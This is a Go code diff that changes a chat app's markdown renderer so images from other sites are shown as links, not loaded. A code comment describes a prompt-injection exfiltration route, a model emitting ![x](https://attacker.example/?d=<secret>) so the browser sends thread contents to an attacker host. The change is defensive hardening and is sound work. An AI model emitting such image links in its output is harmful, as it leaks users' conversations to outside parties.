@@ -3,6 +3,7 @@ package handlers
 import (
 	"bytes"
 	"html"
+	"net/url"
 	"regexp"
 	"strings"
 	"sync"
@@ -25,16 +26,68 @@ import (
 // still sees what was written.
 // Code blocks are highlighted with CSS classes (the stylesheet is
 // ChromaCSS), which keeps the CSP free of inline styles.
-var markdown = goldmark.New(
-	goldmark.WithExtensions(
-		extension.GFM,
-		highlighting.NewHighlighting(
-			highlighting.WithFormatOptions(chromahtml.WithClasses(true)),
-			highlighting.WithGuessLanguage(false),
-		),
-	),
-	goldmark.WithRendererOptions(renderer.WithNodeRenderers(util.Prioritized(escapedHTML{}, 100))),
+//
+// An image from another site becomes a link (imageRenderer): a
+// prompt-injected model could otherwise write
+// ![x](https://attacker.example/?d=<secret>) and the browser would send the
+// thread's contents there just by showing it. markdownRemote loads them,
+// for servers whose admin opted in.
+var (
+	markdown       = newMarkdown(false)
+	markdownRemote = newMarkdown(true)
 )
+
+func newMarkdown(remoteImages bool) goldmark.Markdown {
+	return goldmark.New(
+		goldmark.WithExtensions(
+			extension.GFM,
+			highlighting.NewHighlighting(
+				highlighting.WithFormatOptions(chromahtml.WithClasses(true)),
+				highlighting.WithGuessLanguage(false),
+			),
+		),
+		goldmark.WithRendererOptions(renderer.WithNodeRenderers(
+			util.Prioritized(escapedHTML{}, 100),
+			util.Prioritized(imageRenderer{remote: remoteImages}, 100),
+		)),
+	)
+}
+
+// imageRenderer renders images from this site as <img>, and images from
+// elsewhere as links unless remote.
+type imageRenderer struct{ remote bool }
+
+func (ir imageRenderer) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
+	reg.Register(ast.KindImage, func(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
+		if !entering {
+			return ast.WalkContinue, nil
+		}
+		n := node.(*ast.Image)
+		dest := string(n.Destination)
+		alt := html.EscapeString(string(n.Text(source))) //nolint:staticcheck // the alt text, as goldmark's own renderer takes it
+		if ir.remote || isOwnURL(dest) {
+			_, _ = w.WriteString(`<img src="` + html.EscapeString(dest) + `" alt="` + alt + `">`)
+			return ast.WalkSkipChildren, nil
+		}
+		label := "image"
+		if alt != "" {
+			label = "image: " + alt
+		}
+		_, _ = w.WriteString(`<a href="` + html.EscapeString(dest) + `" class="remote-image">[` + label + `] ` + html.EscapeString(dest) + `</a>`)
+		return ast.WalkSkipChildren, nil
+	})
+}
+
+// isOwnURL reports whether an image URL points at this site: a path
+// (absolute or relative) with no scheme or host, which the browser loads
+// from this origin.
+func isOwnURL(dest string) bool {
+	if strings.HasPrefix(dest, "//") || strings.ContainsAny(dest, "\\\t\n\r") {
+		return false
+	}
+	u, err := url.Parse(dest)
+	return err == nil && u.Scheme == "" && u.Host == "" && u.Opaque == ""
+}
 
 // escapedHTML renders raw HTML (inline and blocks) as escaped text.
 type escapedHTML struct{}
@@ -70,16 +123,25 @@ func (escapedHTML) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
 
 var sanitizer = func() *bluemonday.Policy {
 	p := bluemonday.UGCPolicy()
-	p.AllowAttrs("class").Matching(regexp.MustCompile(`^[a-zA-Z0-9 _-]+$`)).OnElements("span", "code", "pre", "div")
+	p.AllowAttrs("class").Matching(regexp.MustCompile(`^[a-zA-Z0-9 _-]+$`)).OnElements("span", "code", "pre", "div", "a")
 	p.AddTargetBlankToFullyQualifiedLinks(true)
 	p.RequireNoReferrerOnFullyQualifiedLinks(true)
 	return p
 }()
 
-// renderMarkdown turns message text into sanitised HTML.
-func renderMarkdown(src string) string {
+// renderMarkdown turns message text into sanitised HTML, with images from
+// other sites as links.
+func renderMarkdown(src string) string { return renderMarkdownWith(src, false) }
+
+// renderMarkdownWith is renderMarkdown; remoteImages loads images from
+// other sites as well (the admin's opt-in).
+func renderMarkdownWith(src string, remoteImages bool) string {
+	md := markdown
+	if remoteImages {
+		md = markdownRemote
+	}
 	var buf bytes.Buffer
-	if err := markdown.Convert([]byte(src), &buf); err != nil {
+	if err := md.Convert([]byte(src), &buf); err != nil {
 		// Fall back to the escaped text: never the raw source.
 		return "<pre>" + bluemonday.StrictPolicy().Sanitize(src) + "</pre>"
 	}
